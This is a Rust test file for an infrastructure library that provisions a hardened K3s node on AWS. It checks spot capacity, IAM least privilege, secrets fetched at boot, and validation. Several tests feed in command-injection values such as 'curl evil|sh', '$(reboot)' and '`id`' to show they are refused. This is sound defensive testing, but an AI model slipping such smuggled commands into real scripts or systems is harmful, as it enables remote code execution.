#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // tests fail by panicking
//! The K3s node: spot-only capacity, hardened launch template, least-privilege role,
//! cloud-init without secrets, errors, and tfcheck.

use std::path::{Path, PathBuf};

use girder_aws::aws;
use girder_core::assertions::Template;
use girder_core::construct::Dependable;
use girder_core::prelude::*;
use girder_core::vocabulary::{LogRetentionError, SsmPath};
use girder_k3s::{CloudInit, K3sError, K3sNode, Traefik, render_cloud_init};
use girder_network::{Alb, Targets, Vpc, VpcHandle};
use girder_rds::PostgresParameters;
use girder_storage::{Bucket, BucketName};
use serde_json::json;

fn ssm(path: &str) -> SsmPath {
    SsmPath::new(path).unwrap()
}

/// Where the datastore's settings are published (what `publish_to_ssm` returns).
fn datastore() -> PostgresParameters {
    PostgresParameters::under(&ssm("/pixtools/dev/db")).unwrap()
}

fn node<S: Into<String>>(
    vpc: &VpcHandle,
    name: &str,
    types: impl IntoIterator<Item = S>,
    version: &str,
) -> K3sNode {
    K3sNode::new(
        vpc,
        &datastore(),
        name,
        types,
        &ssm("/pixtools/dev"),
        version,
    )
}

fn pixtools_node(vpc: &VpcHandle) -> K3sNode {
    node(
        vpc,
        "pixtools-dev",
        ["m7i-flex.large", "c7i-flex.large", "m6i.large"],
        "v1.36.4+k3s1",
    )
}

fn k3s_error(err: &girder_core::Error) -> &K3sError {
    err.construct_error::<K3sError>()
        .unwrap_or_else(|| panic!("not a K3sError: {err}"))
}

/// A cloud-init of the PixTools node, without a manifests bucket.
fn cloud_init() -> CloudInit {
    CloudInit {
        name: "pixtools-dev".into(),
        token_parameter: "/pixtools/dev/k3s/token".into(),
        db_host_parameter: "/pixtools/dev/db/host".into(),
        db_port_parameter: "/pixtools/dev/db/port".into(),
        db_username_parameter: "/pixtools/dev/db/username".into(),
        db_secret_parameter: "/pixtools/dev/db/master-secret-arn".into(),
        datastore_database: "k3s_state".into(),
        k3s_version: "v1.36.4+k3s1".into(),
        manifests_bucket: None,
        manifests_prefix: "manifests/".into(),
        log_group: "/pixtools-dev/k3s".into(),
        bundled_traefik: false,
        ecr_credential_provider: None,
        boot_attempts: 20,
        boot_retry_seconds: 15,
        start_timeout_seconds: 600,
        database_users: Vec::new(),
        datastore_user: None,
        namespace_logs: Vec::new(),
        pod_identity: None,
    }
}

fn stack() -> Stack {
    let mut stack = Stack::new("compute", "dev", Backend::local()).unwrap();
    stack.require_provider(aws::requirement()).unwrap();
    stack
        .add_provider(aws::Provider::new().region("us-east-1").into())
        .unwrap();
    let mut scope = stack.root();
    let vpc = Vpc::new("pixtools-dev", "10.40.0.0/16".parse().unwrap())
        .add(&mut scope, "network")
        .unwrap();
    let manifests = Bucket::new(BucketName::literal(
        "pixtools-manifests-123456789012-us-east-1",
    ))
    .add(&mut scope, "manifests")
    .unwrap();
    let alb = Alb::internet_facing(&vpc, "web", Targets::instances("web-api", 30080))
        .allow(["203.0.113.10/32".parse().unwrap()])
        .add(&mut scope, "alb")
        .unwrap();
    let node = pixtools_node(&vpc)
        .manifests_from(&manifests)
        .target_of(&alb)
        .add(&mut scope, "k3s")
        .unwrap();
    alb.allow_to_targets(&mut scope, &node).unwrap();
    let waits: Vec<String> = node
        .dependencies()
        .iter()
        .map(|r| r.target.to_string())
        .collect();
    assert_eq!(waits, ["aws_autoscaling_group.k3s_group"]);
    stack
}

#[test]
fn capacity_is_spot_only_with_fallback_types() {
    let t = Template::from_stack(stack()).unwrap();
    let group = t.resource("aws_autoscaling_group", "k3s_group");
    assert_eq!(
        (
            group["min_size"].clone(),
            group["max_size"].clone(),
            group["desired_capacity"].clone()
        ),
        (json!(1), json!(1), json!(1))
    );
    assert_eq!(group["capacity_rebalance"], true);
    let policy = &group["mixed_instances_policy"][0];
    assert_eq!(
        policy["instances_distribution"][0],
        json!({"on_demand_base_capacity": 0, "on_demand_percentage_above_base_capacity": 0, "spot_allocation_strategy": "price-capacity-optimized"})
    );
    let types: Vec<&str> = policy["launch_template"][0]["override"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["instance_type"].as_str().unwrap())
        .collect();
    assert_eq!(types, ["m7i-flex.large", "c7i-flex.large", "m6i.large"]);
    assert_eq!(
        group["target_group_arns"],
        json!(["${aws_lb_target_group.alb_targets.arn}"])
    );
}

#[test]
fn the_launch_template_is_hardened() {
    let t = Template::from_stack(stack()).unwrap();
    let template = t.resource("aws_launch_template", "k3s_launch_template");
    assert_eq!(
        template["image_id"],
        "resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64"
    );
    assert_eq!(template["metadata_options"][0]["http_tokens"], "required");
    // Pods (one hop behind the CNI bridge) cannot reach IMDS for the node role.
    assert_eq!(
        template["metadata_options"][0]["http_put_response_hop_limit"],
        1
    );
    assert_eq!(
        template["block_device_mappings"][0]["ebs"][0],
        json!({"delete_on_termination": "true", "encrypted": "true", "volume_size": 40, "volume_type": "gp3"})
    );
    let user_data = template["user_data"].as_str().unwrap();
    assert!(
        user_data.starts_with("${base64encode(\"#cloud-config"),
        "{user_data}"
    );
    // Shell variables stay literal for Terraform.
    assert!(user_data.contains("$${DB_USER}"), "{user_data}");
    // The password is fetched at boot, never written here.
    assert!(
        user_data.contains("DB_PASSWORD=$(retry aws secretsmanager get-secret-value"),
        "{user_data}"
    );
    assert_eq!(
        user_data.matches("PASSWORD=").count(),
        1,
        "only the fetched value: {user_data}"
    );
    // Session Manager without AmazonSSMManagedInstanceCore (its GetParameter on * would
    // let every host-network pod read every parameter of the account): no managed
    // policy at all, and the node reads exactly the parameters its boot reads.
    t.resource_count_is("aws_iam_role_policy_attachment", 0);
    let policies = t.resources("aws_iam_role_policy");
    let node_policy = policies
        .iter()
        .map(|(_, p)| p["policy"].as_str().unwrap())
        .find(|p| p.contains("ReadSettings"))
        .unwrap();
    for action in [
        "ssm:UpdateInstanceInformation",
        "ec2messages:GetMessages",
        "ssmmessages:OpenDataChannel",
    ] {
        assert!(node_policy.contains(action), "{action}");
    }
    assert!(!node_policy.contains("GetParametersByPath"));
    // The parameters named: the datastore's four and the token, none by wildcard.
    let named: Vec<&str> = node_policy
        .split("parameter")
        .skip(1)
        .map(|rest| rest.split('"').next().unwrap().split('\\').next().unwrap())
        .collect();
    assert_eq!(
        named,
        [
            "/pixtools/dev/db/host",
            "/pixtools/dev/db/port",
            "/pixtools/dev/db/username",
            "/pixtools/dev/db/master-secret-arn",
            "/pixtools/dev/k3s/token",
        ],
        "{node_policy}"
    );
    // Inbound: the port the ALB asked for, and between the group's own nodes (an old and
    // a replacement node overlap) the K3s supervisor, kubelet and VXLAN ports; no SSH,
    // nothing from anywhere else.
    let inbound = t.resources("aws_vpc_security_group_ingress_rule");
    let names: Vec<&str> = inbound.iter().map(|(name, _)| *name).collect();
    assert_eq!(
        names,
        [
            "alb_ingress_tcp_80_from_203_0_113_10_32",
            "k3s_ingress_tcp_6443_from_k3s_security_group",
            "k3s_ingress_tcp_10250_from_k3s_security_group",
            "k3s_ingress_udp_8472_from_k3s_security_group",
            "ingress_tcp_30080_from_alb_security_group"
        ],
    );
    for (name, rule) in &inbound {
        if name.starts_with("k3s_ingress") {
            assert_eq!(
                rule["referenced_security_group_id"], rule["security_group_id"],
                "{name}: only the node's own group"
            );
        }
    }
}

#[test]
fn the_node_reads_the_manifests_prefix_with_the_buckets_statements() {
    let t = Template::from_stack(stack()).unwrap();
    let policy = t.resource("aws_iam_role_policy", "k3s_role_node")["policy"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        policy.contains(
            "{\"Sid\" = \"ListManifests\", \"Effect\" = \"Allow\", \"Action\" = \"s3:ListBucket\", \"Resource\" = aws_s3_bucket.manifests.arn, \"Condition\" = {\"StringLike\" = {\"s3:prefix\" = \"manifests/*\"}}}"
        ),
        "{policy}"
    );
    assert!(
        policy.contains("format(\"%s/manifests/*\", aws_s3_bucket.manifests.arn)"),
        "{policy}"
    );
}

#[test]
fn cloud_init_reads_the_parameters_girder_rds_writes() {
    let t = Template::from_stack(stack()).unwrap();
    let user_data = t.resource("aws_launch_template", "k3s_launch_template")["user_data"]
        .as_str()
        .unwrap()
        .to_owned();
    let published = datastore();
    for path in [
        published.host(),
        published.port(),
        published.username(),
        published.master_secret_arn(),
    ] {
        assert!(
            user_data.contains(&format!("param \\\"{path}\\\"")),
            "{path} in {user_data}"
        );
    }
    let token = K3sNode::token_parameter(&ssm("/pixtools/dev")).unwrap();
    assert_eq!(token.as_str(), "/pixtools/dev/k3s/token");
    assert!(
        user_data.contains(&format!("param \\\"{token}\\\"")),
        "{user_data}"
    );
}

#[test]
fn cloud_init_reads_credentials_at_boot() {
    let text = render_cloud_init(&cloud_init()).unwrap();
    let document: serde_json::Value = serde_norway::from_str(&text).unwrap();
    let script = document["write_files"][0]["content"].as_str().unwrap();
    assert!(
        script.contains("--disable servicelb --disable traefik --secrets-encryption"),
        "{script}"
    );
    assert!(
        script.contains("param \"/pixtools/dev/db/host\""),
        "{script}"
    );
    assert!(
        script.contains("aws secretsmanager get-secret-value"),
        "{script}"
    );
    assert!(script.contains("/k3s_state?sslmode=require"), "{script}");
    assert!(
        script.contains("INSTALL_K3S_VERSION=\"v1.36.4+k3s1\""),
        "{script}"
    );
    assert!(
        !text.contains("aws s3 sync"),
        "no manifests bucket, no sync"
    );
}

#[test]
fn manifests_sync_is_a_script_deploys_can_run_again() {
    let text = render_cloud_init(&CloudInit {
        manifests_bucket: Some("pixtools-manifests-111111111111-us-east-1".into()),
        bundled_traefik: true,
        ..cloud_init()
    })
    .unwrap();
    let document: serde_json::Value = serde_norway::from_str(&text).unwrap();
    let files = document["write_files"].as_array().unwrap();
    let file = |path: &str| {
        files
            .iter()
            .find(|f| f["path"] == path)
            .unwrap_or_else(|| panic!("no {path} in {text}"))["content"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let bootstrap = file("/usr/local/sbin/girder-k3s-bootstrap");
    let sync = file("/usr/local/sbin/girder-k3s-sync-manifests");
    // Traefik stays; ServiceLB goes (the ALB is the load balancer).
    assert!(
        bootstrap.contains("--disable servicelb --secrets-encryption \\\n"),
        "{bootstrap}"
    );
    assert!(!bootstrap.contains("--disable traefik"), "{bootstrap}");
    // Boot starts the sync after K3s is up, as a unit of its own retried every minute,
    // without waiting for it (the manifests are not the node's health); the sync holds
    // no credentials.
    assert!(
        bootstrap.contains("systemctl start --no-block girder-k3s-sync-manifests.service"),
        "{bootstrap}"
    );
    assert!(
        !bootstrap.contains("\n      /usr/local/sbin/girder-k3s-sync-manifests"),
        "{bootstrap}"
    );
    // One sync at a time on a node (the boot's unit and a deploy's command), and each
    // attempt reads the bucket afresh: an older copy never applies after a newer one.
    let lock = sync.find("flock 9").unwrap();
    let copy = sync.find("aws s3 sync").unwrap();
    let attempt = sync.find("sync_once() {").unwrap();
    assert!(lock < attempt && attempt < copy, "{sync}");
    assert!(sync.lines().any(|l| l == "retry sync_once"), "{sync}");
    let unit = file("/etc/systemd/system/girder-k3s-sync-manifests.service");
    for line in [
        "After=k3s.service",
        "Type=oneshot",
        "ExecStart=/usr/local/sbin/girder-k3s-sync-manifests",
        "Restart=on-failure",
        "RestartSec=60",
    ] {
        assert!(unit.lines().any(|l| l == line), "{line}: {unit}");
    }
    assert!(
        sync.contains("\"s3://pixtools-manifests-111111111111-us-east-1/manifests/\" \"$SOURCE\""),
        "{sync}"
    );
    assert!(sync.contains("--exclude \"*kustomization.yaml\""), "{sync}");
    assert!(
        !sync.contains("secretsmanager") && !sync.contains("K3S_TOKEN"),
        "{sync}"
    );
}

#[test]
fn bad_settings_are_refused() {
    let mut stack = Stack::new("c", "dev", Backend::local()).unwrap();
    let mut scope = stack.root();
    let vpc = Vpc::new("v", "10.0.0.0/16".parse().unwrap())
        .add(&mut scope, "network")
        .unwrap();
    let cases: [(K3sNode, K3sError); 4] = [
        (
            node(&vpc, "n", Vec::<String>::new(), "v1.36.4+k3s1"),
            K3sError::NoInstanceTypes,
        ),
        (
            node(&vpc, "n", ["m7i-flex"], "v1.36.4+k3s1"),
            K3sError::InstanceType("m7i-flex".into()),
        ),
        (
            node(&vpc, "n", ["m7i.large"], "latest"),
            K3sError::K3sVersion("latest".into()),
        ),
        (
            node(&vpc, "n", ["m7i.large"], "v1.36.4+k3s1").root_volume(4),
            K3sError::RootVolume(4),
        ),
    ];
    for (i, (node, expected)) in cases.into_iter().enumerate() {
        let err = node.add(&mut scope, &format!("n{i}")).unwrap_err();
        assert_eq!(k3s_error(&err), &expected);
        assert!(
            err.to_string().starts_with(&format!("c-dev:n{i}: ")),
            "{err}"
        );
    }
}

#[test]
fn values_written_into_the_boot_script_are_checked() {
    let mut stack = Stack::new("c", "dev", Backend::local()).unwrap();
    let mut scope = stack.root();
    let vpc = Vpc::new("v", "10.0.0.0/16".parse().unwrap())
        .add(&mut scope, "network")
        .unwrap();
    // A manifests bucket whose name is computed at apply cannot be written into the script.
    let computed = Bucket::new(BucketName::with_account_and_region(
        "manifests",
        Expr::raw("data.aws_caller_identity.current.account_id").cast::<String>(),
        "us-east-1",
    ))
    .add(&mut scope, "computed-bucket")
    .unwrap();
    let cases = [
        (
            node(&vpc, "n", ["m7i.large"], "v1.33$(reboot)+k3s1"),
            K3sError::K3sVersion("v1.33$(reboot)+k3s1".into()),
        ),
        (
            node(&vpc, "n", ["m7i.large"], "v1.x+k3s1"),
            K3sError::K3sVersion("v1.x+k3s1".into()),
        ),
        (
            node(&vpc, "n$(id)", ["m7i.large"], "v1.36.4+k3s1"),
            K3sError::NodeName("n$(id)".into()),
        ),
        (
            node(&vpc, "n", ["m7i.large"], "v1.36.4+k3s1").manifests_from(&computed),
            K3sError::ManifestsBucketComputed,
        ),
    ];
    for (i, (node, expected)) in cases.into_iter().enumerate() {
        let err = node.add(&mut scope, &format!("n{i}")).unwrap_err();
        assert_eq!(k3s_error(&err), &expected);
    }
    // The settings prefix is an `SsmPath`: a quote cannot be stated at all.
    assert!(SsmPath::new("/p\"; reboot; \"").is_err());
    let _ok = node(&vpc, "n", ["m7i.large"], "v1.36.1-rc2+k3s1")
        .add(&mut scope, "ok")
        .unwrap();
}

#[test]
fn tfcheck_accepts_the_node() {
    let tfcheck =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/tools/tfcheck/tfcheck");
    if !tfcheck.exists() {
        eprintln!("skipped: ../shared/tools/tfcheck is not beside this clone");
        return;
    }
    let mut app = App::new();
    app.add_stack(stack()).unwrap();
    let out = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("girder-k3s");
    app.synth().unwrap().write(&out).unwrap();
    let output = std::process::Command::new(tfcheck)
        .arg(out.join("terraform"))
        .output()
        .unwrap();
    let report = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success() && report.contains(" 0 problems"),
        "{report}"
    );
}

#[test]
fn traefik_serves_on_the_target_group_node_port() {
    let mut stack = Stack::new("c", "dev", Backend::local()).unwrap();
    let mut scope = stack.root().with_kube_app("ingress").unwrap();
    Traefik::node_port(30080)
        .trust_forwarded_headers_from("10.40.0.0/16".parse().unwrap())
        .add(&mut scope, "ingress")
        .unwrap();
    let err = Traefik::node_port(8080)
        .add(&mut scope, "low-port")
        .unwrap_err();
    assert_eq!(
        err.construct_error::<K3sError>(),
        Some(&K3sError::NodePortOutOfRange {
            port: 8080,
            low: 30000,
            high: 32767
        })
    );
    assert!(err.to_string().starts_with("c-dev:low-port: "), "{err}");
    let mut app = App::new();
    app.add_stack(stack).unwrap();
    let template = Template::from_assembly(&app.synth().unwrap(), "c-dev").unwrap();
    let config = template.kube_object("HelmChartConfig", "traefik");
    assert_eq!(config["metadata"]["namespace"], "kube-system");
    let values: serde_json::Value =
        serde_norway::from_str(config["spec"]["valuesContent"].as_str().unwrap()).unwrap();
    assert_eq!(
        values,
        json!({
            "service": {"type": "NodePort", "spec": {"externalTrafficPolicy": "Local"}},
            "ports": {"web": {"nodePort": 30080, "forwardedHeaders": {"trustedIPs": ["10.40.0.0/16"]}}}
        })
    );
}

#[test]
fn render_cloud_init_refuses_values_that_would_break_out_of_the_script() {
    let good = CloudInit {
        manifests_bucket: Some("pixtools-manifests-123".into()),
        log_group: "/pixtools/dev/node".into(),
        bundled_traefik: true,
        ..cloud_init()
    };
    render_cloud_init(&good).unwrap();
    let hostile = [
        CloudInit {
            k3s_version: "v1\"; curl evil|sh; \"".into(),
            ..good.clone()
        },
        CloudInit {
            name: "x\nruncmd: [[reboot]]".into(),
            ..good.clone()
        },
        CloudInit {
            token_parameter: "/x$(reboot)".into(),
            ..good.clone()
        },
        CloudInit {
            db_host_parameter: "/x\"; reboot; \"".into(),
            ..good.clone()
        },
        CloudInit {
            datastore_database: "k3s'; drop".into(),
            ..good.clone()
        },
        CloudInit {
            manifests_prefix: "m/`id`".into(),
            ..good.clone()
        },
        CloudInit {
            log_group: "/g\n".into(),
            ..good.clone()
        },
        CloudInit {
            manifests_bucket: Some("b b".into()),
            ..good.clone()
        },
        CloudInit {
            ecr_credential_provider: Some("v1.34.0\"; reboot; \"".into()),
            ..good.clone()
        },
        CloudInit {
            boot_attempts: 0,
            ..good.clone()
        },
    ];
    let refused: Vec<&'static str> = hostile
        .iter()
        .map(|values| match render_cloud_init(values).unwrap_err() {
            K3sError::CloudInitValue { what, .. } => what,
            other => panic!("{other:?}"),
        })
        .collect();
    assert_eq!(
        refused,
        [
            "K3s version",
            "node name",
            "token parameter",
            "datastore host parameter",
            "datastore database",
            "manifests prefix",
            "log group",
            "manifests bucket",
            "ecr-credential-provider version",
            "boot attempts"
        ]
    );
}

#[test]
fn log_retention_is_one_cloudwatch_offers() {
    // The node's log group took any number of days and failed at apply.
    let mut stack = Stack::new("c", "dev", Backend::local()).unwrap();
    stack.require_provider(aws::requirement()).unwrap();
    stack
        .add_provider(aws::Provider::new().region("us-east-1").into())
        .unwrap();
    let mut scope = stack.root();
    let vpc = Vpc::new("v", "10.0.0.0/16".parse().unwrap())
        .add(&mut scope, "network")
        .unwrap();
    for days in [0, 13, 366, 4000] {
        let err = pixtools_node(&vpc)
            .log_retention(days)
            .add(&mut scope, &format!("n{days}"))
            .unwrap_err();
        assert_eq!(
            k3s_error(&err),
            &K3sError::LogRetention(LogRetentionError(days))
        );
        assert!(
            err.to_string().starts_with(&format!(
                "c-dev:n{days}: node log retention {days} days is not a retention CloudWatch \
                 Logs offers"
            )),
            "{err}"
        );
    }
    let _kept = pixtools_node(&vpc)
        .log_retention(30)
        .add(&mut scope, "kept")
        .unwrap();
    let t = Template::from_stack(stack).unwrap();
    assert_eq!(
        t.resource("aws_cloudwatch_log_group", "kept_logs")["retention_in_days"],
        json!(30)
    );
}
